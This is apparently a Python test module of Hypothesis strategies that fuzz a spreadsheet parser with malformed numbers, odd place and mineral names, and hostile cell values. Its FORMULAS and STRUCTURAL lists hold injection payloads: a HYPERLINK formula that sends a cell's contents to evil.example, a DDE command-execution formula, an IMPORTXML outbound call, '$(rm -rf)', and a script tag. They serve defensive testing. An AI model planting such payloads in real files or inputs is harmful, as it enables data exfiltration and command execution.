"""Hypothesis strategies for hostile cell values: odd numbers, formulas, structure, places."""

from __future__ import annotations

import datetime as dt
from typing import Any

from hypothesis import strategies as st

NUMBERS = [
    "nan", "NaN", "-nan", "inf", "-inf", "Infinity", "-Infinity", "1e309", "-1e400", "1e308",
    "0", "-0", "0.0", "91", "-90.0001", "180.5", "-181", "1000000", "1e-320", "4.9e-324",
    "0x1A", "1_000", "1,5", "12,345,678", "²", "³³", "٣٤", "１２", "  12  ", "12abc", "-", "..",
    ":", "N/A", "null", "None", "2013.5", "-2013", "99999999999999999999999", "1" * 30,
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://x/",A2),"//a")',
]
STRUCTURAL = [
    '"', '""', 'a"b', '"unclosed', "\n", "\r\n", "\r", ",", ";", "\t", "|", "\x00", "a\x00b",
    "\u2028", "\u2029", "\x0b", "\x0c", "\x1c", "\x85", "\ufeff", "\ufffd", "<x>", "&amp;",
    "]]>", "<!--", "\\N", "['\\N']", "['a\\x']", "['a', 'b'],c", "[\"x\\u12\"]", "$(rm -rf)",
    "{{7*7}}", "<script>alert(1)</script>", "a;b;c", "Tin (Sn", "Gold)", "(((((",
]  # fmt: skip
PLACES = [
    "Congo", "Georgia", "Korea", "DRC", "Côte d'Ivoire", "Cote d'Ivoire", "XKX", "ZAR", "ZZZ",
    "-99", "Unknown", "EU", "EU27_2020", "UK", "EL", "Taiwan", "Kosovo", "Peru", "Perú",
    "United States", "Democratic Republic of the Congo", "West Bank", "Gaza Strip", "Tibet",
]  # fmt: skip
MINERALS = ["Tin", "tantalum", "Cobalt (Co)", "Gold", "3T", "Coltan", "Wolframite", "Or", "Sn/Ta"]


def _huge(unit: str, n: int) -> str:
    return unit * n


def hostile_text() -> st.SearchStrategy[str]:
    """One cell of text a broken or hostile file could carry."""
    return st.one_of(
        st.sampled_from(NUMBERS),
        st.sampled_from(FORMULAS),
        st.sampled_from(STRUCTURAL),
        st.sampled_from(PLACES),
        st.sampled_from(MINERALS),
        st.text(max_size=30),
        st.from_regex(r"-?\d{1,4}(\.\d{1,8})?([eE][+-]?\d{1,3})?", fullmatch=True),
        st.builds(
            _huge, st.sampled_from(["x", "9", "é", "a,", '"', "Tin ", "\n"]), st.integers(300, 6000)
        ),
        st.integers(1, 3000).map(lambda n: "(" * n + "Tin" + ")" * n),
        st.just(""),
        st.just("   "),
    )


def hostile_cell() -> st.SearchStrategy[Any]:
    """A workbook cell: hostile text, or a value of the wrong type."""
    return st.one_of(
        hostile_text(),
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**18), max_value=10**18),
        st.floats(allow_nan=True, allow_infinity=True),
        st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(2100, 1, 1)),
        st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 1, 1)),
    )
